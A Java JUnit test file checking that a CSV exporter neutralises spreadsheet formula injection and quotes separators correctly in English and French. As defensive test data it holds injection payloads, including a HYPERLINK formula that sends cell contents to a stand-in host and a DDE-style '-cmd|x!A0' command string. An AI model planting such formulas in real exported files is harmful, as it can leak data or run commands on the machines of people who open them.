package ca.posthaste.console.application;

import static org.junit.jupiter.api.Assertions.assertEquals;

import ca.posthaste.language.Language;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV for spreadsheets: no content breaks out of its cell, and no formula is evaluated. */
class CsvBufferTest {
    private static String english(String... cells) {
        return new CsvBuffer(Language.ENGLISH).line(List.of(cells)).taken();
    }

    @ParameterizedTest @ValueSource(strings = {"=1+1", "+1 604 555 0100", "-1", "@SUM(A1)", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20a"})
    void cells_that_would_be_formulas_begin_with_an_apostrophe(String typed) {
        assertEquals("'" + typed + "\r\n", english(typed));
    }

    @Test void formulas_after_white_space_that_spreadsheets_skip_begin_with_an_apostrophe() {
        assertEquals("\"'\t=1\",\"'\r=1\",\"'\n=1\"\r\n", english("\t=1", "\r=1", "\n=1"));
    }

    @Test void a_cell_ends_where_it_should() {
        assertEquals("\"a,b\",\"c\"\"d\",\"e\r\nf\",\"g;h\",,i j\r\n", english("a,b", "c\"d", "e\r\nf", "g;h", "", "i j"));
        assertEquals("\"'=HYPERLINK(\"\"https://x.example?\"\"&A1,\"\"go\"\")\"\r\n", english("=HYPERLINK(\"https://x.example?\"&A1,\"go\")"));
        assertEquals("\"a\"\",=1+1\"\r\n", english("a\",=1+1"));
    }

    /** English files are opened on systems set to French, and vice versa. */
    @ParameterizedTest
    @CsvSource(delimiter = '~', quoteCharacter = '"', textBlock = """
        a;=HYPERLINK(A1);b  ~ a;'=HYPERLINK(A1);b
        a,@SUM(A1)          ~ a,'@SUM(A1)
        a;  =f(A1)          ~ a;'  =f(A1)
        a;-cmd|x!A0         ~ a;'-cmd|x!A0
        """)
    void formulas_after_the_other_languages_separator_begin_with_an_apostrophe(String typed, String safe) {
        assertEquals("\"" + safe + "\"\r\n", english(typed));
        assertEquals("\"" + safe + "\"\r\n", new CsvBuffer(Language.FRENCH).line(List.of(typed)).taken());
    }

    @Test void formulas_in_another_line_or_after_a_quote_begin_with_an_apostrophe() {
        assertEquals("\"a\n'=f(A1)\r\n'+g(A2)\"\r\n", english("a\n=f(A1)\r\n+g(A2)"));
        assertEquals("\"a;'\"\"=f(A1)\"\r\n", english("a;\"=f(A1)"));
    }

    @Test void a_list_with_dashes_is_left_as_it_is() {
        assertEquals("\"I can:\n- bake\n- clean;-)\"\r\n", english("I can:\n- bake\n- clean;-)"));
    }

    @Test void in_french_cells_are_separated_by_semicolons() {
        assertEquals("a;\"b;c\";\"d,e\"\r\n", new CsvBuffer(Language.FRENCH).line(List.of("a", "b;c", "d,e")).taken());
    }

    @Test void taken_text_is_not_returned_again() {
        var csv = new CsvBuffer(Language.ENGLISH).line(List.of("a"));
        assertEquals("a\r\n", csv.taken());
        assertEquals("b\r\n", csv.line(List.of("b")).taken());
    }
}
